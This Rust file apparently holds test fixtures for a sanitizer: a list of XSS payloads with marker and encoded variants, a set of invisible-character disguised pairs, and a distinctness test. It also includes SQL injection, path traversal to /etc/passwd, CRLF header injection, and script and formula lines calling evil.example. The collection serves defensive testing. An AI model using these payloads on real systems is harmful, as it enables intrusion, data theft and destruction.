//! Text that would run if a page used it as markup, as a URL or as code.

/// Each payload would set `__hit`, or open a dialog that sets it.
pub const PAYLOADS: &[&str] = &[
    // Script elements.
    "<script>__hit=1</script>",
    "<SCRIPT>alert(1)</SCRIPT>",
    "<script src=//evil.example/x.js></script>",
    "<script src=data:text/javascript,__hit=1></script>",
    "<script type=module>__hit=1</script>",
    "<scr<script>ipt>__hit=1</scr</script>ipt>",
    "</script><script>__hit=1</script>",
    "<script\n>__hit=1</script\n>",
    "<script/x>__hit=1</script>",
    "<<script>__hit=1;//<</script>",
    "<script>__hit=1//",
    "<!--><script>__hit=1</script>-->",
    "<noscript><p title=\"</noscript><img src=x onerror=__hit=1>\">",
    "<script>eval(atob('X19oaXQ9MQ=='))</script>",
    // Handlers.
    "<img src=x onerror=__hit=1>",
    "<img/src=x/onerror=alert(1)>",
    "<IMG SRC=x ONERROR=\"__hit=1\">",
    "<img src=`x`onerror=__hit=1>",
    "<img src=x:x onerror\u{9}=\u{9}__hit=1>",
    "<body onload=__hit=1>",
    "<input autofocus onfocus=__hit=1>",
    "<select autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=__hit=1>",
    "<details open ontoggle=__hit=1>",
    "<video><source onerror=__hit=1></video>",
    "<video src=x onerror=__hit=1>",
    "<audio src=x onerror=__hit=1>",
    "<marquee onstart=__hit=1>",
    "<div onpointerover=__hit=1>over</div>",
    "<p style=animation:x onanimationstart=__hit=1>",
    "<a href=# onclick=__hit=1>click</a>",
    "<object data=x onerror=__hit=1>",
    "<iframe onload=__hit=1></iframe>",
    "<style onload=__hit=1></style>",
    "<link rel=stylesheet href=x onerror=__hit=1>",
    "<form><button formaction=javascript:__hit=1>x</button></form>",
    "<dialog open onclose=__hit=1>",
    "<div contenteditable onblur=__hit=1>",
    "<x onclick=__hit=1 tabindex=0>x</x>",
    // Addresses.
    "javascript:__hit=1",
    "JaVaScRiPt:alert(1)",
    "java\u{9}script:__hit=1",
    "java\nscript:__hit=1",
    "javascript://%0a__hit=1",
    "javascript:__hit=1//@a.example",
    "javascript:alert(1)@a.example",
    "data:text/html,<script>parent.__hit=1</script>",
    "data:text/html;base64,PHNjcmlwdD5fX2hpdD0xPC9zY3JpcHQ+",
    "vbscript:msgbox(1)",
    "blob:https://evil.example/x",
    "//evil.example",
    "https://evil.example/?a@b.example",
    "<a href=javascript:__hit=1>a</a>",
    "<a href=\"&#106;avascript:__hit=1\">a</a>",
    "<a href=data:text/html,x>a</a>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content=\"0;url=javascript:__hit=1\">",
    "<iframe src=javascript:parent.__hit=1></iframe>",
    "<iframe srcdoc=\"<script>parent.__hit=1</script>\"></iframe>",
    "<embed src=javascript:__hit=1>",
    "<object data=\"data:text/html,<script>__hit=1</script>\"></object>",
    "<area href=javascript:__hit=1>",
    "a@b.example?subject=x&body=<script>__hit=1</script>",
    "a@b.example\r\nBcc:c@d.example",
    "tel:+1;phone-context=javascript:__hit=1",
    "mailto:a@b.example",
    // SVG and MathML.
    "<svg onload=__hit=1>",
    "<svg/onload=alert(1)//",
    "<svg><script>__hit=1</script></svg>",
    "<svg><script href=data:,__hit=1 /></svg>",
    "<svg><a xlink:href=javascript:__hit=1><text>x</text></a></svg>",
    "<svg><animate onbegin=__hit=1 attributeName=x dur=1s></svg>",
    "<svg><set attributeName=onmouseover to=__hit=1></svg>",
    "<svg><use href=\"data:image/svg+xml,<svg id=x onload=__hit=1>#x\"></svg>",
    "<svg><foreignObject><iframe onload=__hit=1></foreignObject></svg>",
    "<math><a xlink:href=javascript:__hit=1>x</a></math>",
    "<math><mtext><table><mglyph><style><img src=x onerror=__hit=1>",
    "<svg></p><style><a id=\"</style><img src=1 onerror=__hit=1>\">",
    // Out of an attribute, a tag, a comment, a literal, a template.
    "\"><script>__hit=1</script>",
    "'><img src=x onerror=__hit=1>",
    "\" onfocus=\"__hit=1\" autofocus=\"",
    "' onmouseover='__hit=1",
    "--><img src=x onerror=__hit=1>",
    "--!><script>__hit=1</script>",
    "]]><script>__hit=1</script>",
    "</title><script>__hit=1</script>",
    "</textarea><script>__hit=1</script>",
    "</style><script>__hit=1</script>",
    "</template><script>__hit=1</script>",
    "</option></select><img src=x onerror=__hit=1>",
    "';__hit=1;'",
    "\";__hit=1;//",
    "`;__hit=1;`",
    "\\\";__hit=1;//",
    "${__hit=1}",
    "{{constructor.constructor('__hit=1')()}}",
    "#{__hit=1}",
    "<%= __hit=1 %>",
    "[[${__hit=1}]]",
    "<template><script>__hit=1</script></template>",
    // Style.
    "<style>@import'//evil.example/x.css'</style>",
    "<style>*{background:url(javascript:__hit=1)}</style>",
    "<div style=width:expression(__hit=1)>",
    "<p style=position:fixed;inset:0;z-index:9999>cover</p>",
    "}</style>*{display:none}",
    // Encoded.
    "&lt;script&gt;__hit=1&lt;/script&gt;",
    "&#60;script&#62;__hit=1&#60;/script&#62;",
    "&amp;lt;img src=x onerror=__hit=1&amp;gt;",
    "%3Cscript%3E__hit%3D1%3C%2Fscript%3E",
    "\\u003cscript\\u003e__hit=1\\u003c/script\\u003e",
    "\\x3cscript\\x3e__hit=1\\x3c/script\\x3e",
    "+ADw-script+AD4-__hit=1+ADw-/script+AD4-",
    "PHNjcmlwdD5fX2hpdD0xPC9zY3JpcHQ+",
    "＜script＞__hit=1＜/script＞",
    "‹script›__hit=1‹/script›",
    "<ſcript>__hit=1</ſcript>",
    // Of other trades.
    "'; DROP TABLE customers; --",
    "1 OR 1=1",
    "=HYPERLINK(\"//evil.example\",\"x\")",
    "../../../../etc/passwd",
    "constructor",
    "__proto__",
    "[object Object]",
    "undefined",
    "null",
    "%s%s%n",
];

/// Payloads with invisible characters: stored text and shown text.
pub const DISGUISED: &[(&str, &str)] = &[
    (
        "<scr\0ipt>__hit=1</scr\0ipt>",
        "<scr\u{fffd}ipt>__hit=1</scr\u{fffd}ipt>",
    ),
    (
        "\0<img src=x onerror=__hit=1>",
        "\u{fffd}<img src=x onerror=__hit=1>",
    ),
    (
        "<img src=x onerror\u{c}=__hit=1>",
        "<img src=x onerror\u{fffd}=__hit=1>",
    ),
    ("java\u{1}script:__hit=1", "java\u{fffd}script:__hit=1"),
    ("java\0script:__hit=1", "java\u{fffd}script:__hit=1"),
    (
        "\u{feff}<script>__hit=1</script>",
        "\u{fffd}<script>__hit=1</script>",
    ),
    (
        "<\u{200b}script>__hit=1</\u{200b}script>",
        "<\u{fffd}script>__hit=1</\u{fffd}script>",
    ),
    ("x\u{2028}__hit=1\u{2029}x", "x\u{fffd}__hit=1\u{fffd}x"),
    (
        "\u{202e}>tpircs/<1=tih__>tpircs<\u{202c}",
        "\u{fffd}>tpircs/<1=tih__>tpircs<\u{fffd}",
    ),
    (
        "<i\u{ad}mg src=x onerror=__hit=1>",
        "<i\u{fffd}mg src=x onerror=__hit=1>",
    ),
    (
        "\u{7f}\u{1b}[31m<b>red</b>",
        "\u{fffd}\u{fffd}[31m<b>red</b>",
    ),
    (
        "\u{e0001}\u{e003c}script>__hit=1",
        "\u{fffd}\u{fffd}script>__hit=1",
    ),
];

/// Returns stored text and shown text of all payloads.
pub fn all() -> Vec<(String, String)> {
    let plain = PAYLOADS.iter().map(|text| (*text, *text));
    plain
        .chain(DISGUISED.iter().copied())
        // CRLF is shown as one line break.
        .map(|(stored, shown)| (stored.to_owned(), shown.replace("\r\n", "\n")))
        .collect()
}

#[test]
fn payloads_are_many_and_distinct() {
    let mut stored: Vec<_> = all().into_iter().map(|pair| pair.0).collect();
    assert!(stored.len() >= 120, "{}", stored.len());
    stored.sort_unstable();
    stored.dedup();
    assert_eq!(stored.len(), all().len());
}
